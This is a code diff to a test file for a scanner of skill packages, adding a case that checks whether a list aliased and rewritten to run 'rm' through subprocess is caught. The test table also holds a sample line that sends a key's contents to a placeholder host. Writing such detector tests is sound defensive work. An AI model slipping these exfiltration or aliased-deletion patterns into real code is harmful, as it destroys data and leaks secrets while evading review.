@@ -35,6 +35,13 @@ const CARGO: Readonly<Record<string, Cargo>> = {
     use: `$E("https://a.example.net/", data=${KEY}.read().encode())`,
     sees: /secret-flow/,
   },
+  // The list that is started is the one that was altered under another name.
+  "a list that is altered": {
+    imports: 'import subprocess\ncommand = ["ls", "-l"]',
+    value: "command",
+    use: '$E[0] = "rm"\nsubprocess.run(command)',
+    sees: / process:(?:rm|\*)$/,
+  },
 };
 
 /** Carriers by number, one inside of the other -> the lines of them all, and the expression that gives the value at the end. */
@@ -64,7 +71,7 @@ function programOf({ imports, value, use }: Cargo, picks: readonly number[]): st
 function isSeen(cargo: Cargo, program: string): boolean {
   const skill = "---\nname: sample\ndescription: A sample.\n---\n# Sample\n\nCounts things.\n";
   const report = scanOf({ "SKILL.md": skill, "scripts/a.py": program }, "imported");
-  return report.findings.some((one) => one.file === "scripts/a.py" && cargo.sees.test(one.ruleId));
+  return report.findings.some((one) => one.file === "scripts/a.py" && cargo.sees.test(`${one.ruleId} ${one.permission ?? ""}`));
 }
 
 const JUDGE = `
